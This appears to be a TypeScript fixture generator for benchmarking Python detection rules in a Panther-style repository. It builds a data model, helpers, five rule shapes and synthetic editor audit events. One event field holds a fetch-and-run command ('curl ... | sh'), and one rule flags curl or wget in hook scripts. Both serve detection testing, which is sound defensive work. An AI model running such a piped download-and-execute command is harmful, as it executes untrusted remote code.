// The Python detection content of the Python benches (detect-python, python-ingest, python-slow-rule,
// python-memory): an Editor.Audit data model (Path and Method mappings through udm()), a global
// helper, rule k of five shapes (deep_get, helpers, title/dedup/alert_context/severity on matches)
// and the audit record i they run over, written as a Panther repository directory.
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'

export const DATA_MODEL_ID = 'Bench.Editor.Audit'
export const DATA_MODEL_YML = `AnalysisType: datamodel
DataModelID: ${DATA_MODEL_ID}
Enabled: true
LogTypes: [Editor.Audit]
Filename: editor_audit.py
Mappings:
  - Name: actor_user
    Path: user_email
  - Name: source_ip
    Path: $.ip_address
  - Name: event_outcome
    Method: get_event_outcome
`
/** The data model's mappings as the plain-python3 baseline builds its DataModel. */
export const DATA_MODEL_MAPPINGS = [
  { name: 'actor_user', path: 'user_email' },
  { name: 'source_ip', path: '$.ip_address' },
  { name: 'event_outcome', method: 'get_event_outcome' },
]
export const DATA_MODEL_PY = `def get_event_outcome(event):
    success = event.deep_get("login", "success")
    if success is None:
        return None
    return "success" if success else "failure"
`
export const HELPER_YML = 'AnalysisType: global\nGlobalID: bench_helpers\nFilename: bench_helpers.py\n'
export const HELPER_PY = `def is_admin_role(role):
    return str(role or "").lower() in {"admin", "owner"}


def domain_of(email):
    return str(email or "").rsplit("@", 1)[-1]
`
const USERS = 300

/** Rule k: one of five shapes, each with constants of its own (so no two modules are the same). */
export function ruleSource(k: number): string {
  switch (k % 5) {
    case 0:
      return `def rule(event):
    return event.udm("event_outcome") == "failure" and event.udm("actor_user", default="").startswith("user${k % 10}")


def title(event):
    return f"Failed login for {event.udm('actor_user')}"


def dedup(event):
    return event.udm("actor_user")


def alert_context(event):
    return {"ip": event.udm("source_ip")}
`
    case 1:
      return `from bench_helpers import is_admin_role


def rule(event):
    added = event.get("add_user") or {}
    return is_admin_role(added.get("role")) and added.get("team_id") == "${4800 + (k % 40)}"


def title(event):
    return f"Admin {event.deep_get('add_user', 'user_email')} added by {event.get('user_email')}"
`
    case 2:
      return `WATCHED = {"privacy_mode_enforced", "sso_required_${k}"}


def rule(event):
    settings = event.get("team_settings") or {}
    return settings.get("setting_name") in WATCHED and settings.get("new_value") in ("false", "off", "0")


def dedup(event):
    return event.get("team_id")


def severity(event):
    return "HIGH" if event.deep_get("team_settings", "old_value") == "true" else "DEFAULT"
`
    case 3:
      return `def rule(event):
    hook = event.get("team_hook") or {}
    script = (hook.get("script_content") or "").lower()
    return hook.get("action") in ("create", "update") and ("curl" in script or "wget${k}" in script)


def title(event):
    return f"Hook {event.deep_get('team_hook', 'script_name')} by {event.get('user_email')}"


def alert_context(event):
    return {"script": event.deep_get("team_hook", "script_content"), "os": event.deep_walk("team_hook", "operating_systems")}
`
    default:
      return `from bench_helpers import domain_of

BLOCKED = {"evil${k}.example", "mallory.example"}


def rule(event):
    return domain_of(event.udm("actor_user")) in BLOCKED and event.deep_get("metadata", "context", "auth_id", default="").startswith("idp|")


def dedup(event):
    return domain_of(event.udm("actor_user"))
`
  }
}

/** Rule k's RuleID: `Bench.Python.<k>`, k padded to `width` digits. */
export const ruleId = (k: number, width = 2) => `Bench.Python.${String(k).padStart(width, '0')}`

export function ruleYaml(k: number, width = 2, filename = `rule_${k}.py`, id = ruleId(k, width)): string {
  return [
    'AnalysisType: rule',
    `RuleID: ${id}`,
    'Enabled: true',
    `Filename: ${filename}`,
    'LogTypes: [Editor.Audit]',
    `Severity: ${['Low', 'Medium', 'High'][k % 3]}`,
    'DedupPeriodMinutes: 60',
    'Tests: []',
    '',
  ].join('\n')
}

/**
 * Audit record i as a log source sends it: a mix of the audit log's kinds (logins, invitations,
 * settings, hooks). `hotEvery` > 1 makes only the records with i % hotEvery < 4 (one of each kind)
 * carry the values the rules look for, the others benign: real traffic matches rarely.
 */
export function auditEvent(i: number, hour: number, hotEvery = 1): Record<string, unknown> {
  const hot = hotEvery <= 1 || i % hotEvery < 4
  const event = new Date(Date.UTC(2026, 10, 20, hour, 0, 0) + (i % 3_600_000)).toISOString()
  const user = hot && i % 17 === 0 ? `ops${i % 5}@mallory.example` : `user${i % USERS}@example.com`
  const base: Record<string, unknown> = {
    ip_address: `198.51.100.${i % 250}`,
    team_id: String(4800 + (i % 40)),
    user_email: user,
    metadata: { id: `r${i}`, timestamp: event, context: { auth_id: `idp|u${i % USERS}`, request_id: `req_${i}` } },
  }
  switch (i % 4) {
    case 0:
      base.login = { login_type: 'LOGIN_TYPE_WEB', success: !hot || i % 3 !== 0 }
      break
    case 1:
      base.add_user = {
        source: 'invite',
        team_id: String(4800 + (i % 40)),
        role: hot && i % 5 === 0 ? 'admin' : 'member',
      }
      break
    case 2:
      base.team_settings = {
        setting_name: i % 6 === 2 ? 'privacy_mode_enforced' : 'usage_based_pricing',
        old_value: 'true',
        new_value: hot && i % 4 === 2 && i % 8 === 2 ? 'false' : 'true',
      }
      break
    default:
      base.team_hook = {
        action: 'create',
        hook_id: `hk_${i % 50}`,
        script_name: 'x.sh',
        script_content: hot && i % 7 === 0 ? 'curl -s https://example.com/x | sh' : 'exit 0',
        operating_systems: ['linux'],
      }
  }
  return base
}

/** Audit record i as the log source stores it (with its p_* fields). */
export function storedRecord(i: number, hour: number): Record<string, unknown> {
  const event = auditEvent(i, hour)
  return {
    ...event,
    p_log_type: 'Editor.Audit',
    p_event_time: (event.metadata as { timestamp: string }).timestamp,
    p_parse_time: new Date(Date.UTC(2026, 10, 21, 0, 0, 0) + Math.floor(i / 100)).toISOString(),
    p_row_id: `bench${String(i).padStart(10, '0')}`,
  }
}

/** A rule of its own beside the generated ones: `Filename` `<name>.py` in rules/. */
export interface ExtraRule {
  id: string
  name: string
  source: string
}

/**
 * Writes the data model, the helper and rules 0 … rules-1 (and `extra`) into `dir` as a Panther
 * repository lays them out (data_models/, global_helpers/, rules/).
 */
export async function writePythonContent(dir: string, rules: number, width = 2, extra: ExtraRule[] = []) {
  await mkdir(path.join(dir, 'rules'), { recursive: true })
  await mkdir(path.join(dir, 'data_models'), { recursive: true })
  await mkdir(path.join(dir, 'global_helpers'), { recursive: true })
  await writeFile(path.join(dir, 'data_models', 'editor_audit.yml'), DATA_MODEL_YML)
  await writeFile(path.join(dir, 'data_models', 'editor_audit.py'), DATA_MODEL_PY)
  await writeFile(path.join(dir, 'global_helpers', 'bench_helpers.yml'), HELPER_YML)
  await writeFile(path.join(dir, 'global_helpers', 'bench_helpers.py'), HELPER_PY)
  for (let k = 0; k < rules; k++) {
    await writeFile(path.join(dir, 'rules', `rule_${k}.yml`), ruleYaml(k, width))
    await writeFile(path.join(dir, 'rules', `rule_${k}.py`), ruleSource(k))
  }
  for (const [j, r] of extra.entries()) {
    await writeFile(path.join(dir, 'rules', `${r.name}.yml`), ruleYaml(j, width, `${r.name}.py`, r.id))
    await writeFile(path.join(dir, 'rules', `${r.name}.py`), r.source)
  }
}
